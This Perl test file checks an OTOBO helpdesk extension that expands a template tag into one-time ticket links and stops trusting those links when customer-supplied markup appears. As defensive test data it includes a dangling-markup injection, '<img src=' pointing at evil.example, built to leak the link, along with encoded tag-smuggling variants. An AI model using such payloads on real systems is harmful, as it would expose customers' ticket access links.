# --
# OneTimeAuthBridge: one-time links to tickets for the customers of an OTOBO helpdesk.
# --
# This program is free software: you can redistribute it and/or modify it under
# the terms of the GNU General Public License as published by the Free Software
# Foundation, either version 3 of the License, or (at your option) any later version.
# This program is distributed in the hope that it will be useful, but WITHOUT
# ANY WARRANTY; without even the implied warranty of MERCHANTABILITY or FITNESS
# FOR A PARTICULAR PURPOSE. See the GNU General Public License for more details.
# You should have received a copy of the GNU General Public License
# along with this program. If not, see <https://www.gnu.org/licenses/>.
# --

use v5.24;
use strict;
use warnings;
use utf8;

use FindBin qw($Bin);
use lib "$Bin/lib";

use Test::More;
use TestOTOBO;

my $PublicURL = 'https://support.example.com/ota';
my $Number    = '2026112210000011';
my $LinkID    = 'AAECAwQFBgcIqrvM3e7xABEi';
my $Safe      = "$PublicURL/t/$Number/$LinkID";
my $TicketURL = "https://support.example.com/otobo/customer.pl?Action=CustomerTicketZoom;TicketNumber=$Number";

my ( %Prepared, @Distrusted, $Bridge, $OTOBO );

sub Setup {
    my (%Config) = @_;

    %Prepared = (
        Link         => $Safe,
        TicketNumber => $Number,
        Language     => 'de'
    );
    @Distrusted = ();
    $Bridge     = TestOTOBO::Fake->new(
        PublicURL     => sub { return $PublicURL },
        IsEnabled     => sub { return 1 },
        LinkIssue     => sub { my ( undef, %Param ) = @_; return $Param{TicketID} == 11 ? %Prepared : () },
        LinksDistrust => sub { my ( undef, %Param ) = @_; push @Distrusted, $Param{TicketID}; return 1 },
    );
    $OTOBO = TestOTOBO->new(
        Config => {
            HttpType        => 'https',
            FQDN            => 'support.example.com',
            ScriptAlias     => 'otobo/',
            DefaultLanguage => 'en',
            %Config
        },
        Objects => { 'Kernel::System::OneTimeAuth' => $Bridge },
    );

    return $OTOBO->Get('Kernel::System::OneTimeAuth::TemplateTag');
}

sub Expand {
    my ( $Object, $Text, %Param ) = @_;
    return $Object->TagsExpand(
        Text       => $Text,
        RichText   => 0,
        TicketData => {
            TicketID     => 11,
            TicketNumber => $Number
        },
        %Param
    );
}

subtest 'the tag in plain text' => sub {
    my $Object = Setup();
    is( Expand( $Object, 'Here: <OTOBO_OTACustomerTicketLink>.' ),                                   "Here: $Safe.", 'becomes the inert link' );
    is( Expand( $Object, 'Here: <otobo_otacustomerticketlink>' ),                                    "Here: $Safe",  'in any case' );
    is( Expand( $Object, 'nothing' ),                                                                undef,          'a text without it is left alone' );
    is( Expand( $Object, 'Here: <OTOBO_OTACustomerTicketLink>.', TicketData => {} ),                 'Here: .',      'without a ticket it becomes nothing' );
    is( Expand( $Object, 'Here: <OTOBO_OTACustomerTicketLink>.', TicketData => { TicketID => 12 } ), 'Here: .',      'nor with one that is gone' );
    is( $Bridge->Calls('LinkIssue'),                                                                 3,              'no call without need' );
};

subtest 'the tag in rich text' => sub {
    my $Object = Setup();
    my $Anchor = qq{<a href="$Safe">$Safe</a>};
    my %Case   = (
        'Here: &lt;OTOBO_OTACustomerTicketLink&gt;. Bye'                                         => "Here: $Anchor. Bye",
        '&lt;OTOBO_OTACustomerTicketLink&gt;'                                                    => $Anchor,
        '<p>a &amp; b<br />&lt;OTOBO_OTACustomerTicketLink&gt;</p>'                              => "<p>a &amp; b<br />$Anchor</p>",
        '<a href="&lt;OTOBO_OTACustomerTicketLink&gt;">Your ticket</a>'                          => qq{<a href="$Safe">Your ticket</a>},
        '<a href="%3COTOBO_OTACustomerTicketLink%3E">Your ticket</a>'                            => qq{<a href="$Safe">Your ticket</a>},
        '<a href="<OTOBO_OTACustomerTicketLink>">Your ticket</a>'                                => qq{<a href="$Safe">Your ticket</a>},
        '<a href="&lt;OTOBO_OTACustomerTicketLink&gt;" >&lt;OTOBO_OTACustomerTicketLink&gt;</a>' => qq{<a href="$Safe" >$Safe</a>},
        '<a href="/x">y</a> 3 < 4 % &lt;OTOBO_OTACustomerTicketLink&gt; ü'                      => qq{<a href="/x">y</a> 3 < 4 % $Anchor ü},
    );
    is( Expand( $Object, $_, RichText => 1 ), $Case{$_}, $_ ) for sort keys %Case;
};

subtest 'what editors put around the tag in a link is dropped' => sub {
    my $T      = 'OTOBO_OTACustomerTicketLink';
    my $Object = Setup();
    for my $Given (
        (
            map {
                (
                    qq{href="$_&lt;$T&gt;"},   qq{href="$_%3C$T%3E"},       qq{href="$_%3c$T%3e"}, qq{href="$_<$T>"},
                    qq{href='$_&#60;$T&#62;'}, qq{href="$_&#x3C;$T&#x3e;"}, qq{HREF = "$_&lt;} . lc($T) . q{&gt;"}
                )
            }
            '',
            'http://',
            'https://',
            'HTTP://',
            'http:',
            'mailto:',
            'http:%2F%2F',
            '/'
        ),
        qq{href=&lt;$T&gt;},
        qq{href=http://%3C$T%3E},
        qq{href=<$T>},
        qq{href=" &lt;$T&gt;"},
        qq{href="&lt;$T&gt;/"},
        qq{href="http://&lt;$T&gt;/"},
        qq{href="http://%3C$T%3E/"},
        )
    {
        my ( $Href, $Quote ) = $Given =~ m{(href\s*=\s*)(["']?)}i;
        is(
            Expand( $Object, qq{<p><a class="b" $Given target=x>open</a></p>}, RichText => 1 ),
            qq{<p><a class="b" $Href$Quote$Safe$Quote target=x>open</a></p>}, $Given
        );
    }
    my %Case = (
        qq{<a href="http://&lt;$T&gt;">&lt;$T&gt;</a>}                             => qq{<a href="$Safe">$Safe</a>},
        qq{<a href="http://<$T>">http://&lt;$T&gt;</a>}                            => qq{<a href="$Safe">$Safe</a>},
        qq{<a href="&lt;$T&gt;?utm_source=mail">open</a>}                          => qq{<a href="$Safe?utm_source=mail">open</a>},
        qq{<a href="http://&lt;$T&gt;/?utm_source=mail">open</a>}                  => qq{<a href="$Safe?utm_source=mail">open</a>},
        qq{<a href="&lt;$T&gt;#top">open</a>}                                      => qq{<a href="$Safe#top">open</a>},
        qq{<a data-mce-href="http://&lt;$T&gt;" href="http://&lt;$T&gt;">open</a>} => qq{<a data-mce-href="$Safe" href="$Safe">open</a>},
        qq{<a\nhref="&lt;$T&gt;"\r\nclass="x">open</a>}                            => qq{<a href="$Safe" class="x">open</a>},
        qq{<a title="a > b" href="&lt;$T&gt;">open</a>}                            => qq{<a title="a > b" href="$Safe">open</a>},
        qq{x http://&lt;$T&gt; y}                                                  => qq{x <a href="$Safe">$Safe</a> y},
        qq{x mailto:&lt;$T&gt; y}                                                  => qq{x <a href="$Safe">$Safe</a> y},
        qq{<v:roundrect href="http://&lt;$T&gt;">}                                 => qq{<v:roundrect href="$Safe">},
        qq{<!-- &lt;$T&gt; -->}                                                    => qq{<!-- $Safe -->},
        qq{<img src="http://&lt;$T&gt;">}                                          => qq{<img src="$Safe">},
    );
    is( Expand( $Object, $_, RichText => 1 ),                              $Case{$_},                          $_ ) for sort keys %Case;
    is( Expand( $Object, "See http://<$T> or https://<$T>, mailto:<$T>" ), "See $Safe or $Safe, $Safe",        'in plain text, too' );
    is( Expand( $Object, "Ticket:<$T> xhttp://<$T>" ),                     "Ticket:$Safe xhttp://$Safe",       'what else stands before it stays' );
    is( Expand( $Object, "a\x01b &lt;$T&gt; x", RichText => 1 ),           qq{ab <a href="$Safe">$Safe</a> x}, 'a control character is no tag' );
};

subtest 'in a line of its own in a mail that OTOBO sends by itself the link is a button, with the address below it' => sub {
    my $T      = '&lt;OTOBO_OTACustomerTicketLink&gt;';
    my $Object = Setup();
    my $Anchor = qq{<a href="$Safe">$Safe</a>};
    my $Button = qr{<a style="[^"<>]+" href=\Q$Safe\E><span style="[^"<>]+">Open your ticket</span></a><br/>\Q$Anchor\E};
    my @Mail   = (
        RichText        => 1,
        Language        => 'en',
        AddTimezoneInfo => { AutoResponse => 1 }
    );

    for my $Given (
        $T, "Hello<br/><br/>$T<br/>Bye", "<p>$T</p>", "<p>&nbsp;$T </p>", "<td>\n$T\n</td>", "<div class=\"x\">$T</div>",
        "a<br />$T<br />", "<li>$T</li>", "<p>http://$T</p>"
        )
    {
        my $Expected = $Given =~ s{(?:http://)?$T}{LINK}r;
        my $Result   = Expand( $Object, $Given, @Mail );
        is( $Result =~ s{$Button}{LINK}r, $Expected, $Given );
    }
    for my $Given ( "See $T", "$T.", "<b>Ticket:</b> $T", "<p>$T or</p>", "<p>„$T“</p>" ) {
        is( Expand( $Object, $Given, @Mail ), $Given =~ s{$T}{$Anchor}r, "$Given: a plain link" );
    }
    is( Expand( $Object, "<p><a href=\"$T\">$T</a></p>", @Mail ),         qq{<p><a href="$Safe">$Safe</a></p>}, 'in a link it is the text of that' );
    is( Expand( $Object, "<p>$T</p>",                    RichText => 1 ), "<p>$Anchor</p>", 'in a compose form, a salutation or a signature a plain link' );

    like( Expand( $Object, $T, @Mail, Language => 'pl' ),  qr{>Otwórz zgłoszenie<}, 'in the language of the text' );
    like( Expand( $Object, $T, @Mail, Language => undef ), qr{>Ihr Ticket öffnen<},  'or in that of the customer' );

    %Prepared = (
        Plain        => 1,
        TicketNumber => $Number
    );
    is( Expand( $Object, $T, @Mail ), qq{<a href="$TicketURL">$TicketURL</a>}, 'the plain ticket URL is none' );
};

subtest 'a customer\'s words with markup of their own end the trust in the links around them' => sub {
    my %Text = (
        Before     => "<p>Dear NAME, $Safe</p>",
        TicketData => { TicketID => 11 }
    );
    my $Object = Setup();
    $Object->WordsCheck( %Text, After => $Text{Before} =~ s{NAME}{$_}r ) for 'Jane', '&lt;img src=&quot;', 'a<br/>b';
    is_deeply( \@Distrusted, [], 'escaped words do not' );
    $Object->WordsCheck( %Text, After => "<p>Dear <img src='https://evil.example/?u=, $Safe</p>" );
    is_deeply( \@Distrusted, [11], 'a name that OTOBO did not escape does' );
    $Object->WordsCheck( %Text, After => undef );
    is_deeply( \@Distrusted, [ 11, 11 ], 'nor is anything known of a text that is not there' );
    $Object->WordsCheck(
        %Text,
        After      => '<b>',
        TicketData => undef
    );
    is( scalar @Distrusted, 2, 'without a ticket there is no link' );
};

subtest 'a notification into which OTOBO put words before: they are compared with what the admin wrote' => sub {
    my $Object  = Setup();
    my %Message = (
        en => {
            Body        => '<p>It: &lt;OTOBO_CUSTOMER_DATA_Body&gt; <a href="<OTOBO_OTACustomerTicketLink>">x</a></p>',
            ContentType => 'text/html'
        },
        de => {
            Body        => 'Es: <OTOBO_CUSTOMER_DATA_Body>',
            ContentType => 'text/plain'
        },
    );
    my %Marked = $Object->TagsMark( Notification => { Message => \%Message } );
    no warnings 'once';    ## no critic qw(TestingAndDebugging::ProhibitNoWarnings)
    local $Kernel::System::OneTimeAuth::TemplateTag::Mark = $Marked{Mark};
    my $Check = sub {
        my ($Given) = @_;
        $Object->WordsCheck(
            Given      => $Given,
            Before     => 'same',
            After      => 'same',
            TicketData => { TicketID => 11 }
        );
        return scalar splice @Distrusted;
    };
    my $Body = $Marked{Notification}->{Message}->{en}->{Body};
    is( $Check->( $Body =~ s{&lt;OTOBO_CUSTOMER_DATA_Body&gt;}{Hello}r ),                 undef, 'words without markup' );
    is( $Check->( $Body =~ s{&lt;OTOBO_CUSTOMER_DATA_Body&gt;}{<img src='https://x/?}r ), 11,    'words with markup' );
    is( $Check->('Es: &lt;img src=x&gt;<br/>'),                                           undef, 'plain text that OTOBO made HTML of' );
    is( $Check->('Es: <img src=x>'),                                                      11,    'which has no markup at all' );
};

subtest 'a link that could not be had' => sub {
    my $Object = Setup();
    delete $Prepared{Link};
    my $Sentence = 'Ein Link zu Ihrem Ticket konnte gerade nicht erzeugt werden. Bitte antworten Sie stattdessen auf diese E-Mail.';
    is( Expand( $Object, 'See <OTOBO_OTACustomerTicketLink>' ), "See $Sentence", 'a sentence in the language of the customer' );
    is(
        Expand( $Object, '<a href="&lt;OTOBO_OTACustomerTicketLink&gt;">Ticket</a>&lt;OTOBO_OTACustomerTicketLink&gt;', RichText => 1 ),
        qq{<a href="$TicketURL">Ticket</a>$Sentence}, 'in an attribute the plain ticket URL',
    );

    $Object = Setup( 'OneTimeAuth::CustomerErrorMessageRefreshFailed' => "No <b>link</b> &\nsorry" );
    delete $Prepared{Link};
    is(
        Expand( $Object, '&lt;OTOBO_OTACustomerTicketLink&gt;', RichText => 1 ),
        'No &lt;b&gt;link&lt;/b&gt; &amp;<br/>sorry',
        'the text of the admin, escaped'
    );
    is( Expand( $Object, 'Re: <OTOBO_OTACustomerTicketLink>' ), 'Re: No <b>link</b> & sorry', 'a subject stays one line' );

    $Object = Setup();
    $Bridge->{Functions}->{LinkIssue} = sub { die 'broken' };
    like( Expand( $Object, 'See <OTOBO_OTACustomerTicketLink>' ), qr{\ASee A link to your ticket could not}, 'whatever happens, a text' );
};

subtest 'a customer user without links gets the plain ticket URL' => sub {
    my $Object = Setup();
    %Prepared = (
        Plain        => 1,
        TicketNumber => $Number
    );
    is( Expand( $Object, 'See <OTOBO_OTACustomerTicketLink>' ), "See $TicketURL", 'in plain text' );
    is( Expand( $Object, 'See &lt;OTOBO_OTACustomerTicketLink&gt;', RichText => 1 ), qq{See <a href="$TicketURL">$TicketURL</a>}, 'in rich text' );
};

subtest 'in a notification only the tags of the admin are expanded' => sub {
    my $Object = Setup();
    my %Given  = (
        Message => {
            en => {
                Subject     => 'S',
                Body        => 'mine &lt;OTOBO_OTACustomerTicketLink&gt; <OTOBO_CUSTOMER_DATA_Body>',
                ContentType => 'text/html'
            }
        }
    );
    my %Marked = $Object->TagsMark( Notification => \%Given );
    my $Body   = $Marked{Notification}->{Message}->{en}->{Body};
    like( $Body, qr{&lt;OTOBO_OTACustomerTicketLink_$Marked{Mark}&gt;}, 'marked' );
    unlike( $Given{Message}->{en}->{Body}, qr{_$Marked{Mark}}, 'the given one is untouched' );
    is( $Marked{Notification}->{Message}->{en}->{ContentType}, 'text/html', 'the rest is there' );

    $Body =~ s{<OTOBO_CUSTOMER_DATA_Body>}{theirs &lt;OTOBO_OTACustomerTicketLink&gt;};
    no warnings 'once';    ## no critic qw(TestingAndDebugging::ProhibitNoWarnings)
    local $Kernel::System::OneTimeAuth::TemplateTag::Mark = $Marked{Mark};
    is(
        Expand( $Object, $Body, RichText => 1 ), qq{mine <a href="$Safe">$Safe</a> theirs &lt;OTOBO_OTACustomerTicketLink&gt;},
        'the customer\'s stays text',
    );
};

subtest 'with an empty mark no tag at all is expanded, whatever a sender guesses' => sub {
    my $Object = Setup();
    no warnings 'once';    ## no critic qw(TestingAndDebugging::ProhibitNoWarnings)
    local $Kernel::System::OneTimeAuth::TemplateTag::Mark = '';
    is( Expand( $Object, "<OTOBO_OTACustomerTicketLink$_>" ), undef, "'$_'" ) for '', '_', '__';
};

done_testing();
